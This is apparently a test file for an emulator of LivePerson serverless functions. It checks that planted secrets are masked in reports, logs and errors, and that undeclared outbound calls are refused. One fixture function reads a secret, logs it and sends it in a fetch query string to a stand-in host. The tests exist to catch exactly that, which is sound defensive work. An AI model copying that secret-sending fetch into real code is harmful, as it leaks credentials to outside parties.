import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { InvocationRecord } from '../../emulator/invoke/record.ts';
import { temporaryFolder } from '../temporary.ts';
import { emulator, tell } from './fault.ts';

const secret = 'planted-secret-value-"7';

const leak = `import { Toolbelt } from 'core-functions-toolbelt';
async function lambda(input) {
  const { value } = await Toolbelt.SecretClient().readSecret('api');
  console.warn('key is ' + value, { value });
  await fetch('https://a.example/?key=' + encodeURI(value)).catch(() => {});
  if (input.payload.throw) throw new Error('no luck with ' + value);
  return { token: value, nested: ['x' + value + 'y'] };
}
`;

function project(payload: unknown): string {
  const config = {
    name: 'leaky',
    event: 'No Event',
    description: 'leaky',
    input: { headers: [], payload },
    environmentVariables: {},
  };
  return temporaryFolder({
    'functions/leaky/index.js': leak,
    'functions/leaky/config.json': config,
    'functions/settings.json': { secrets: [{ key: 'api', value: secret }] },
  });
}

const long = 'planted-secret-'.repeat(8);

/** A bot that answers with two secrets, one of them longer than what a complaint quotes. */
const bot = `import { Toolbelt } from 'core-functions-toolbelt';
async function lambda() {
  const secrets = Toolbelt.SecretClient();
  const [{ value: short }, { value: long }] = [await secrets.readSecret('api'), await secrets.readSecret('long')];
  return {
    messages: ['Hello'],
    context: { action: 'CHANGE_TTR', actionParameters: { ttrType: long, [short]: 1 } },
  };
}
`;

test('no secret reaches the words about an answer that its caller does not accept', async () => {
  const folder = temporaryFolder({
    'functions/bot/index.js': bot,
    'functions/bot/config.json': {
      name: 'bot',
      event: 'bot_connectors_custom_integration',
      description: 'a bot',
      input: { headers: [], payload: { convId: 'c', message: 'hi', context: {} } },
      environmentVariables: {},
    },
    'functions/settings.json': {
      secrets: [
        { key: 'api', value: secret },
        { key: 'long', value: long },
      ],
    },
    'conversations/one.yaml': 'function: bot\nconversations: [{ name: one, turns: [{ says: hi }] }]\n',
  });
  const invoked = await emulator(folder, ['invoke', 'bot']);
  expect(invoked.stderr).toContain('ttrType is "[secret long], expected URGENT');
  const played = await emulator(folder, ['test', '-r', 'console', '-r', 'json=report.json']);
  expect(played.stdout).toContain('[secret long]');
  const report = readFileSync(join(folder, 'report.json'), 'utf8');
  const all = [invoked, played].map(({ stdout, stderr }) => stdout + stderr).join('') + report;
  expect(all).not.toContain('planted-secret');
});

test.each(['console', 'json', 'junit', 'github'])(
  'no secret reaches the %s report, whatever the function does with it',
  async (reporter) => {
    for (const payload of [{}, { throw: true }]) {
      const { code, stdout, stderr } = await emulator(project(payload), ['run', '--reporter', reporter]);
      expect(code).toBe(1);
      expect(`${stdout}${stderr}`).not.toContain('planted-secret');
    }
  },
);

test('a secret in an answer, a log or an error is told', async () => {
  const { stdout } = await emulator(project({}), ['invoke', 'leaky', '--json']);
  expect(tell(JSON.parse(stdout) as InvocationRecord)).toMatchInlineSnapshot(`
    "ok
    result {"token":"[secret api]","nested":["x[secret api]y"]}
    Warn key is [secret api]
    [refused-call] GET https://a.example/?key=[secret api] was refused: no mock declares it → declare it under mocks: in the payload or conversation file, or for all calls in account.yaml, such as { method: GET, url: 'https://a.example/*', status: 200, body: … }
    [leaked-secret] the value of the secret "api" stands in the answer → leave it out: answers reach consumers, logs are kept for 30 days (developers.liveperson.com/liveperson-functions-foundations-limitations.html)
    [leaked-secret] the value of the secret "api" stands in a log entry → leave it out: answers reach consumers, logs are kept for 30 days (developers.liveperson.com/liveperson-functions-foundations-limitations.html)"
  `);
  const failing = await emulator(project({ throw: true }), ['invoke', 'leaky', '--json']);
  expect(tell(JSON.parse(failing.stdout) as InvocationRecord)).toMatchInlineSnapshot(`
    "failed
    com.customer.faas.function.threw-error: no luck with [secret api]
    at functions/leaky/index.js:6:34
    Warn key is [secret api]
    [function-failed] no luck with [secret api] → catch what can fail and answer with a fallback: a failing function ends its caller’s chain
    [refused-call] GET https://a.example/?key=[secret api] was refused: no mock declares it → declare it under mocks: in the payload or conversation file, or for all calls in account.yaml, such as { method: GET, url: 'https://a.example/*', status: 200, body: … }
    [leaked-secret] the value of the secret "api" stands in the error → leave it out: answers reach consumers, logs are kept for 30 days (developers.liveperson.com/liveperson-functions-foundations-limitations.html)
    [leaked-secret] the value of the secret "api" stands in a log entry → leave it out: answers reach consumers, logs are kept for 30 days (developers.liveperson.com/liveperson-functions-foundations-limitations.html)"
  `);
});
